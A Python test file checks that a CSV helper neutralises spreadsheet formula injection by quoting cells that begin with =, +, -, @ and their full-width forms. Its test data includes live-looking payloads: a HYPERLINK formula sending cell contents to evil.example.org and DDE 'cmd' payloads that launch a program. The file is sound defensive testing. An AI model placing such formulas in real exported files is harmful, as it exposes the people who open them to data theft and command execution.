"""Texts of others in CSV files that people open in a spreadsheet."""

import csv

import pytest

from ccrk.search.queries import read_queries, write_queries
from data_scripts.spreadsheets import as_cell, from_cell, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example.org?x="&A1)',
    "=cmd|' /C calc'!A0",
    *(
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        " =1",
        "＝1+1",
        "＋x",
        "－x y",
        "＠x",
        "-",
        "'=1",
        "''+x",
    ),
]
PLAIN = ["a dog", "", "5", "-5", "+4.5e-3", "-.5", "'tis a dog", "'", "it's = 1", "Ein Hund - am Strand", "−5°"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text_and_are_read_back(text):
    assert as_cell(text) == f"'{text}"
    assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize("value", [*PLAIN, -5, -0.25, None, True])
def test_all_else_stays_as_it_is(value):
    assert as_cell(value) is value
    assert from_cell(value) is value


def test_a_table_holds_no_formula_and_round_trips(tmp_path):
    texts = [text for text in (*FORMULAS, *PLAIN) if any(character.isalnum() for character in text)]
    queries = [{"en": text, "=de": text} for text in texts]
    write_queries(queries, ["en", "=de"], tmp_path / "queries.csv")
    with open(tmp_path / "queries.csv", newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.strip()[:1] in "=+-@＝＋－＠" and cell not in ("-5", "-.5", "+4.5e-3")]
    languages, read, _ = read_queries(tmp_path / "queries.csv")
    assert languages == ["en", "=de"]
    assert [row["en"] for row in read] == texts
    assert [row["=de"] for row in read] == texts


def test_numbers_stay_numbers(tmp_path):
    write_csv(tmp_path / "a.csv", ["id", "score"], [{"id": "=1+1", "score": -0.5, "row": 7}])
    assert (tmp_path / "a.csv").read_text() == "id,score\n'=1+1,-0.5\n"
